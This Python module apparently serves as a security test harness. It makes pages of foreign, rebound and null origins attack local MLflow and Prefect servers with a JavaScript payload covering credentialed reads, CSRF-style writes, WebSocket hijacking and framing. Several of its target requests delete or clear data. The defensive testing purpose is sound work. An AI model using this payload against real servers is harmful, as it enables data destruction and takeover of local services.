"""A page of another site that tries everything a page can to reach a server, and what it got.

A browser resolves the foreign names to 127.0.0.1, as a site's own name server may do: that is DNS rebinding, in which
page and server share an origin.
"""

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from playwright.sync_api import Page

NAMES = ("evil.example", "127.0.0.1.evil.example", "localhost.evil.example")
RESOLVER = "--host-resolver-rules=" + ",".join(f"MAP {name} 127.0.0.1" for name in NAMES)
MARK = "planted-by-a-foreign-page"

ATTACK = """async ({reads, writes, sockets}) => {
  const got = [];
  const tell = (how, url, what) => got.push(how + ' ' + url + ': ' + String(what).slice(0, 60));
  const within = (promise, seconds) => Promise.race([promise, new Promise(done => setTimeout(done, seconds * 1000))]);
  const attempts = [];
  for (const url of reads)
    for (const credentials of ['omit', 'include'])
      attempts.push(async () => {
        const answer = await fetch(url, {credentials});
        if (answer.ok) tell('read', url, await answer.text());
      });
  for (const [method, url, body] of writes)
    for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded'])
      for (const mode of ['cors', 'no-cors'])
        attempts.push(async () => {
          const headers = {'Content-Type': type};
          const answer = await fetch(url, {method, mode, body, headers, credentials: 'include'});
          if (answer.ok) tell('wrote', url, await answer.text());
        });
  for (const [, url, body] of writes) {
    attempts.push(async () => { navigator.sendBeacon(url, new Blob([body], {type: 'text/plain'})); });
    attempts.push(async () => {
      const frame = document.createElement('iframe'), form = document.createElement('form');
      const field = document.createElement('input');
      frame.name = 'f' + Math.random();
      Object.assign(form, {action: url, method: 'POST', enctype: 'text/plain', target: frame.name});
      [field.name, field.value] = [body.slice(0, -1) + ',"x":"', '"}'];
      form.append(field);
      document.body.append(frame, form);
      form.submit();
      await new Promise(done => { frame.onload = done; });
      const text = frame.contentDocument && frame.contentDocument.body.innerText;
      if (text && !text.includes('its own pages')) tell('form', url, text);
    });
  }
  for (const url of sockets)
    attempts.push(() => new Promise(done => {
      const socket = new WebSocket(url, ['prefect']);
      socket.onopen = () => { tell('socket', url, 'open'); socket.close(); done(); };
      socket.onerror = socket.onclose = done;
    }));
  for (const attempt of attempts)
    await within((async () => { try { await attempt(); } catch { /* refused */ } })(), 3);
  return got;
}"""


@dataclass(frozen=True)
class Target:
    """A server, and what a page tries there: paths to read, requests that change something, and WebSockets."""

    port: int
    reads: tuple[str, ...]
    writes: tuple[tuple[str, str, str], ...]
    sockets: tuple[str, ...] = ()

    def at(self, host: str) -> dict[str, object]:
        """The addresses by one of the server's names."""
        place = f"{host}:{self.port}"
        return {
            "reads": [f"http://{place}{path}" for path in self.reads],
            "writes": [[method, f"http://{place}{path}", body] for method, path, body in self.writes],
            "sockets": [f"ws://{place}{path}" for path in self.sockets],
        }


def mlflow_target(port: int) -> Target:
    """MLflow's UI."""
    named, search = f'{{"name":"{MARK}"}}', "/2.0/mlflow/experiments/search?max_results=9"
    return Target(
        port,
        ("/", "/health", f"/ajax-api{search}", f"/api{search}"),
        (
            ("POST", "/ajax-api/2.0/mlflow/experiments/create", named),
            ("POST", "/api/2.0/mlflow/experiments/create", named),
            ("POST", "/api/2.0/mlflow/registered-models/create", named),
            ("POST", "/ajax-api/2.0/mlflow/experiments/delete", '{"experiment_id":"1"}'),
            ("PATCH", "/ajax-api/2.0/mlflow/registered-models/update", named),
            ("POST", "/graphql", '{"query":"query { __typename }"}'),
        ),
    )  # fmt: skip


def prefect_target(port: int) -> Target:
    """Prefect's server."""
    return Target(
        port,
        ("/", "/api/health", "/api/admin/version", "/api/admin/settings"),
        (
            ("POST", "/api/flows/", f'{{"name":"{MARK}"}}'),
            ("POST", "/api/variables/", f'{{"name":"{MARK.replace("-", "_")}","value":"1"}}'),
            ("POST", "/api/flows/filter", "{}"),
            ("POST", "/api/admin/database/clear", '{"confirm":true}'),
            ("DELETE", "/api/work_pools/vecml", "{}"),
        ),
        ("/api/events/in", "/api/events/out", "/api/logs/out"),
    )


@contextmanager
def foreign_site() -> Iterator[int]:
    """A web server of another site, whose every page is empty; gives its port on 127.0.0.1."""

    class Empty(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>foreign</title><body></body>")

        def log_message(self, format: str, *args: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Empty) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield server.server_address[1]
        finally:
            server.shutdown()
            thread.join()


def attacks(page: "Page", target: Target, site: int) -> Iterator[tuple[str, list[str]]]:
    """Attack a server from pages of other origins; for each, where from, and what it got.

    `site` is the port of `foreign_site`.
    """
    for origin in (f"http://127.0.0.1:{site}", f"http://localhost:{site}", f"http://evil.example:{site}"):
        page.goto(f"{origin}/")
        for host in ("127.0.0.1", "localhost", "evil.example"):
            yield f"from {origin} at {host}", page.evaluate(ATTACK, target.at(host))
    for name in (*NAMES, "evil.localhost"):  # DNS rebinding: the page is of the server's own origin
        page.goto(f"http://{name}:{target.port}/")
        yield f"from {name}, rebound", page.evaluate(ATTACK, target.at(name))
    page.goto(f"http://127.0.0.1:{site}/")  # a frame in a sandbox has the origin `null`
    page.set_content("<iframe sandbox='allow-scripts allow-forms' srcdoc='<body></body>'></iframe>")
    yield "from the origin null", page.frames[1].evaluate(ATTACK, target.at("127.0.0.1"))


def framed(page: "Page", target: Target, site: int) -> bool:
    """Whether a foreign page shows the server's pages in a frame of its own, where it can steer a user's clicks."""
    page.goto(f"http://evil.example:{site}/")
    page.set_content(f"<iframe src='http://127.0.0.1:{target.port}/' width=900 height=700></iframe>")
    page.wait_for_load_state("networkidle")
    return any(
        frame.url.startswith("http") for frame in page.frames[1:]
    )  # in place of what is refused is chrome-error:
